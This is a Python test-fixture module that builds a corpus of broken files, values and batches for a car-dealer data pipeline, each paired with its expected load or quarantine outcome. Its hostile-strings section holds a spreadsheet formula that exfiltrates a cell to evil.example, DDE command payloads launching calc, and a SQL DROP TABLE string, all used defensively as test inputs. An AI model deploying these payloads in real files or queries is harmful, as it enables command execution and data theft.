"""The bad-input corpus: every kind of broken file, value and batch a source has sent or
could send, each landed as its own file with the outcome the pipeline must give it.

Outcomes, per kind (``Kind``):
- ``status``: the file's status in ``ops.bronze_files`` (``loaded``, ``failed`` for a file
  rejected whole with its reason, ``empty``, ``skipped_duplicate``);
- ``bronze_bad`` / ``bronze_reason``: rows in ``bronze.quarantine`` and the reason text;
- ``good``: rows that end current in silver;
- ``silver_bad`` / ``silver_rule``: rows in ``silver.quarantine`` and the DQ rule;
- ``flag``: a ``warn`` rule every kept row of the file carries in ``_dq_warnings``
  (kept on purpose: a European VIN without a check digit, an unknown dealer code or a
  credit note's negative amount is still a customer's record);
- ``value``: for hostile strings, (silver column, text it must contain) proving the value
  arrived intact rather than mangled.

Rows are tiny and hand written; the two large ones (1 MB strings) are built here.
"""

from __future__ import annotations

from dataclasses import dataclass

BATCH = "20261101-full"
BATCH2 = "20261102-delta"

_TRANSLIT = {
    **{str(d): d for d in range(10)},
    **dict(zip("ABCDEFGH", range(1, 9), strict=True)),
    **dict(zip("JKLMN", range(1, 6), strict=True)),
    "P": 7,
    "R": 9,
    **dict(zip("STUVWXYZ", range(2, 10), strict=True)),
}
_WEIGHTS = (8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2)


def vin(serial: int, *, valid: bool = True) -> str:
    """A VIN with a correct (or deliberately wrong) ISO 3779 check digit."""
    body = f"VSKAZMPA0LB{serial:06d}"
    total = sum(_TRANSLIT[ch] * w for ch, w in zip(body, _WEIGHTS, strict=True))
    digit = "X" if total % 11 == 10 else str(total % 11)
    if not valid:
        digit = "0" if digit != "0" else "1"
    return body[:8] + digit + body[9:]


SALES_HEADER = (
    "SALE_ID;VIN;MODEL;MODEL_YEAR;TRIM;NEW_USED;SALE_TYPE;SALE_DATE;PRICE;DEALER_CODE;"
    "BUYER_TYPE;TITLE;FIRST_NAME;LAST_NAME;COMPANY_NAME;TAX_ID;STREET;POSTAL_CODE;CITY;"
    "PHONE;EMAIL;BIRTH_DATE;RECORD_STATUS;LAST_UPDATE"
)
CONSENTS_HEADER = (
    "consent_id,contact_point,contact_type,channel,status,source,legal_basis,consent_ts"
)
SERVICE_HEADER = (
    "RO Number,VIN,Dealer,Open Date,Close Date,Odometer,Service Type,Labour,Parts,Total,"
    "Customer Name,Phone,Email,Address,Postal Code,City,Deleted,Updated At"
)


def sale(n: int, **kw: str) -> str:
    f = {
        "sale_id": f"VPPBAD{n:05d}",
        "vin": vin(n),
        "model": "LEAF",
        "model_year": "2020",
        "sale_date": "24/08/2020",
        "price": "37.876,00",
        "dealer": "D001",
        "buyer": "P",
        "first": "ANA",
        "last": "GARCÍA",
        "email": f"ana.{n}@example.com",
        "birth": "01/02/1980",
    } | kw
    return (
        f"{f['sale_id']};{f['vin']};{f['model']};{f['model_year']};Tekna;N;CASH;"
        f"{f['sale_date']};{f['price']};{f['dealer']};{f['buyer']};;{f['first']};{f['last']};"
        f";;CALLE MAYOR, 1;28001;MADRID;+34600{n:06d};{f['email']};{f['birth']};A;"
        "24/08/2020 10:00:00"
    )


def service(n: int, **kw: str) -> str:
    f = {
        "ro": f"ROBAD{n:05d}",
        "vin": vin(n),
        "dealer": "D001",
        "open": "2024-09-11",
        "odometer": "37433",
        "labour": "254.02",
        "parts": "127.03",
        "total": "381.05",
        "name": '"GARCIA, PABLO"',
        "email": f"pablo.{n}@example.com",
        "address": '"Calle de Sagasta, 101"',
    } | kw
    return (
        f"{f['ro']},{f['vin']},{f['dealer']},{f['open']},2024-09-13,{f['odometer']},Maintenance,"
        f"{f['labour']},{f['parts']},{f['total']},{f['name']},9448{n:05d},{f['email']},"
        f"{f['address']},39140,Santander,N,2024-09-13T18:30:00"
    )


def lead(n: int, **kw: str) -> str:
    f = {
        "id": f'"WEB-BAD{n:05d}"',
        "created_at": '"2026-10-02T07:58:56+01:00"',
        "first_name": '"Isabel"',
        "email": f'"isabel.{n}@example.com"',
    } | kw
    return (
        f'{{"id":{f["id"]},"created_at":{f["created_at"]},"type":"lead",'
        f'"model_of_interest":"Leaf","status":"open","preferred_dealer":"D001",'
        f'"first_name":{f["first_name"]},"last_name":"León","email":{f["email"]},'
        f'"postal_code":"07025","marketing_opt_in":"true","op":"i",'
        f'"updated_at":"2026-10-02T12:00:00Z"}}'
    )


def csv_file(header: str, rows: list[str], *, encoding: str = "utf-8", eol: str = "\n") -> bytes:
    return (eol.join([header, *rows]) + eol).encode(encoding)


def sales_file(rows: list[str], **kw: str) -> bytes:
    return csv_file(SALES_HEADER, rows, encoding="iso-8859-1", **kw)


def service_file(rows: list[str], **kw: str) -> bytes:
    return csv_file(SERVICE_HEADER, rows, **kw)


def jsonl_file(rows: list[str]) -> bytes:
    return ("\n".join(rows) + "\n").encode("utf-8")


@dataclass(frozen=True)
class Kind:
    name: str
    group: str  # file, value, hostile, batch
    source: str
    content: bytes
    good: int = 0
    bronze_bad: int = 0
    bronze_reason: str = ""
    silver_bad: int = 0
    silver_rule: str = ""
    flag: str = ""
    status: str = "loaded"
    value: tuple[str, str] | None = None  # compared case-insensitively (names are re-cased)
    superseded: int = 0  # rows a newer version of the same record replaced
    batch: str = BATCH
    ext: str = ""

    @property
    def file(self) -> str:
        ext = self.ext or ("jsonl" if self.source == "ecommerce" else "csv")
        return f"{self.source}/{self.batch}/{self.name}.{ext}"


MB = 1_000_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SQLISH = "Robert'); DROP TABLE silver.sales;--"
EMOJI = "Zoë 😀👍🏽"
RTL = "\u202eأحمد\u202c"
BIG = "A" * MB

# Reference data the kinds rely on: one known dealer (D001).
DEALERS = (
    b"dealer_code,dealer_name,region,street,postal_code,city,latitude,longitude,active\n"
    b'D001,Nissan Madrid,Madrid,"Calle Mayor, 1",28001,Madrid,40.41,-3.70,Y\n'
)

_GOOD_SALES = sales_file([sale(900), sale(901)])

KINDS: list[Kind] = [
    # ------------------------------------------------------------------ file-level
    Kind(
        "truncated_file",
        "file",
        "sales",
        sales_file([sale(1), sale(2)])[:-40],
        good=1,
        bronze_bad=1,
        bronze_reason="malformed row",
    ),
    Kind(
        "wrong_delimiter",
        "file",
        "sales",
        sales_file([sale(3), sale(4)]).replace(b";", b","),
        status="failed",
    ),
    Kind(
        "utf8_where_latin1_expected",  # valid Latin-1 bytes, but the row is UTF-8 text
        "file",
        "sales",
        csv_file(SALES_HEADER, [sale(5, last="NÚÑEZ"), sale(49, last="GARCIA")], encoding="utf-8"),
        good=1,
        bronze_bad=1,
        bronze_reason="encoding mismatch",
    ),
    Kind(
        "latin1_where_utf8_expected",
        "file",
        "service",
        service_file([service(6), service(7, name='"NÚÑEZ, JOSÉ"')], encoding="iso-8859-1"),
        good=1,
        bronze_bad=1,
        bronze_reason="bad encoding",
    ),
    Kind("bom", "file", "service", b"\xef\xbb\xbf" + service_file([service(8)]), good=1),
    Kind(
        "embedded_newlines_and_quotes",
        "file",
        "service",
        service_file(
            [
                service(9, address='"Calle Mayor, 1\nPiso 2"'),
                service(10, name='"O\'BRIEN, ""EL GRANDE"""'),
            ]
        ),
        good=2,
    ),
    Kind("crlf_line_ends", "file", "service", service_file([service(11)], eol="\r\n"), good=1),
    Kind(
        "extra_column",
        "file",
        "service",
        csv_file(SERVICE_HEADER + ",Loyalty Card", [service(12) + ",LC-1"]),
        good=1,
    ),
    Kind(
        "missing_optional_column",
        "file",
        "service",
        csv_file(
            SERVICE_HEADER.replace(",Email", ""), [service(13).replace(",pablo.13@example.com", "")]
        ),
        good=1,
    ),
    Kind(
        "missing_required_column",
        "file",
        "service",
        csv_file(SERVICE_HEADER.replace("VIN,", ""), [service(14).replace(vin(14) + ",", "")]),
        status="failed",
    ),
    Kind(
        "short_row",
        "file",
        "service",
        service_file([service(15), "ROBAD00016,VSK,D001"]),
        good=1,
        bronze_bad=1,
        bronze_reason="malformed row",
    ),
    Kind(
        "long_row",
        "file",
        "service",
        service_file([service(17), service(18) + ",x,y"]),
        good=1,
        bronze_bad=1,
        bronze_reason="malformed row",
    ),
    Kind(
        "unbalanced_quote",
        "file",
        "service",
        service_file([service(19), service(20, name='"GARCIA, PABLO')]),
        good=1,
        bronze_bad=1,
        bronze_reason="malformed row",
    ),
    Kind(
        "broken_json_line",
        "file",
        "ecommerce",
        jsonl_file([lead(21), lead(22)[:-9]]),
        good=1,
        bronze_bad=1,
        bronze_reason="broken JSON",
    ),
    Kind(
        "json_not_an_object",
        "file",
        "ecommerce",
        jsonl_file([lead(23), '["WEB-BAD00024", "lead"]']),
        good=1,
        bronze_bad=1,
        bronze_reason="not a JSON object",
    ),
    # ------------------------------------------------------------------ bad values
    Kind(
        "wrong_type_number",
        "value",
        "service",
        service_file([service(25, odometer="forty thousand")]),
        good=1,
        value=("_unparsed", "forty thousand"),
    ),
    Kind(
        "unparseable_date",
        "value",
        "sales",
        sales_file([sale(26, sale_date="31/02/2020")]),
        silver_bad=1,
        silver_rule="sale_date_present",
    ),
    Kind(
        "date_in_future",
        "value",
        "sales",
        sales_file([sale(27, sale_date="01/01/2031")]),
        silver_bad=1,
        silver_rule="sale_date_not_future",
    ),
    Kind(
        "date_out_of_range",
        "value",
        "sales",
        sales_file([sale(28, sale_date="01/01/1889")]),
        silver_bad=1,
        silver_rule="sale_date_not_future",
    ),
    Kind(
        "future_open_date",
        "value",
        "service",
        service_file([service(29, open="2030-01-01")]),
        silver_bad=1,
        silver_rule="open_date_not_future",
    ),
    Kind(
        "negative_amounts",
        "value",
        "service",
        service_file([service(30, labour="-254.02", total="-126.99")]),
        good=1,
        flag="amounts_not_negative",
    ),
    Kind(
        "invalid_vin",
        "value",
        "sales",
        sales_file([sale(31, vin=vin(31, valid=False))]),
        good=1,
        flag="vin_check_digit",
    ),
    Kind(
        "missing_vin",
        "value",
        "service",
        service_file([service(32, vin="")]),
        silver_bad=1,
        silver_rule="vin_present",
    ),
    Kind(
        "unknown_dealer_code",
        "value",
        "sales",
        sales_file([sale(33, dealer="D999")]),
        good=1,
        flag="dealer_known",
    ),
    Kind(
        "unknown_consent_channel",
        "value",
        "consents",
        csv_file(
            CONSENTS_HEADER,
            [
                "CNSBAD00034,ana.34@example.com,email,fax,opt_in,web,consent,29/09/2016 13:29",
                "CNSBAD00050,ana.50@example.com,email,email,opt_in,web,consent,29/09/2016 13:29",
            ],
        ),
        good=1,
        silver_bad=1,
        silver_rule="channel_allowed",
    ),
    Kind(
        "missing_business_key",
        "value",
        "sales",
        sales_file([sale(35, sale_id="")]),
        silver_bad=1,
        silver_rule="key_present",
    ),
    Kind(
        "invalid_email",
        "value",
        "sales",
        sales_file([sale(36, email="ana(at)example")]),
        good=1,
        flag="email_syntax",
    ),
    Kind(
        "birth_date_in_future",
        "value",
        "sales",
        sales_file([sale(37, birth="01/01/2099")]),
        good=1,
        flag="birth_date_range",
    ),
    Kind(
        "price_out_of_range",
        "value",
        "sales",
        sales_file([sale(38, price="-5,00")]),
        good=1,
        flag="price_range",
    ),
    Kind(
        "none_values",  # empty optional fields: kept, just empty
        "value",
        "sales",
        sales_file([sale(39, first="", last="", email="", birth="")]),
        good=1,
        flag="person_named",
    ),
    # ------------------------------------------------------------------ hostile strings
    Kind(
        "one_megabyte_string",
        "hostile",
        "service",
        service_file([service(40), service(41, name=BIG)]),
        good=1,
        silver_bad=1,
        silver_rule="field_length",
    ),
    Kind(
        "one_megabyte_json_string",
        "hostile",
        "ecommerce",
        jsonl_file([lead(42, first_name=f'"{BIG}"')]),
        silver_bad=1,
        silver_rule="field_length",
    ),
    Kind(
        "emoji_name",
        "hostile",
        "service",
        service_file([service(43, name=f'"GARCIA, {EMOJI}"')]),
        good=1,
        value=("given_name", "😀"),
    ),
    Kind(
        "right_to_left_name",
        "hostile",
        "ecommerce",
        jsonl_file([lead(44, first_name=f'"{RTL}"')]),
        good=1,
        value=("given_name", "أحمد"),
    ),
    Kind(
        "formula_injection",
        "hostile",
        "service",
        service_file([service(45, name='"' + FORMULA.replace('"', '""') + '"')]),
        good=1,
        value=("family_name", "=hyperlink("),
    ),
    Kind(
        "sql_looking_string",
        "hostile",
        "ecommerce",
        jsonl_file([lead(46, first_name='"' + SQLISH + '"')]),
        good=1,
        value=("given_name", "drop table silver.sales;--"),
    ),
    Kind(
        "control_characters",
        "hostile",
        "service",
        service_file([service(47, name='"GARCIA,\x00 PA\x07BLO"')]),
        good=1,
    ),
    # ------------------------------------------------------------------ batch-level
    Kind("header_only_file", "batch", "sales", (SALES_HEADER + "\n").encode()),  # loaded, 0 rows
    Kind("zero_byte_file", "batch", "service", b"", status="empty"),
    Kind("zero_byte_batch", "batch", "ecommerce", b"", status="empty", batch="20261103-delta"),
    Kind("original_of_duplicate", "batch", "sales", _GOOD_SALES, good=2),
    Kind(
        "duplicate_file",
        "batch",
        "sales",
        _GOOD_SALES,
        status="skipped_duplicate",
        batch=BATCH2,
    ),
    Kind(
        "same_record_resent",  # an unchanged record in a later batch: one current row
        "batch",
        "sales",
        sales_file([sale(48)]),
        superseded=1,
    ),
]
# The resend of kind same_record_resent: superseded by its twin, never a second row.
RESEND = Kind(
    "same_record_resent_again",
    "batch",
    "sales",
    sales_file([sale(48)]) + b"\n",
    good=1,
    batch=BATCH2,
)

HOSTILE_STRINGS = [
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
    SQLISH,
    EMOJI,
    RTL,
    'O\'Brien, "Jr"\nline two',
]
